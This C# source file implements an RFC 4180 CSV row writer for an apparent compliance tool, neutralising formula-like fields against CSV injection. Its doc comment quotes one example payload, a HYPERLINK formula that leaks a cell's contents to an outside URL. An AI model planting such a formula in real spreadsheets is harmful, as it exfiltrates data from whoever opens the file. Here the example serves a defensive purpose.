using System;
using System.Collections.Generic;
using System.Linq;

namespace Compliance.Cli;

/// <summary>
/// RFC 4180 rows: fields quoted when they hold a comma, quote or line break. A field a spreadsheet would take for a
/// formula (starting with =, +, -, @, a tab or a carriage return) is neutralised with a leading apostrophe, as OWASP
/// advises for CSV injection: auditors open these files in Excel, and an employer's name or id such as
/// <c>=HYPERLINK("http://…?leak="&amp;A1,"click")</c> must stay text.
/// </summary>
internal static class Csv
{
    public static string Row(IEnumerable<string?> fields) => string.Join(",", fields.Select(Field)) + "\r\n";

    /// <summary>The text a spreadsheet shows as text: a leading apostrophe before what it would take for a formula.</summary>
    public static string Neutralised(string value) =>
        value.Length > 0 && value[0] is '=' or '+' or '-' or '@' or '\t' or '\r' ? "'" + value : value;

    private static string Field(string? value)
    {
        value = Neutralised(value ?? string.Empty);
        return value.AsSpan().IndexOfAny(",\"\r\n") < 0 ? value : "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
    }
}
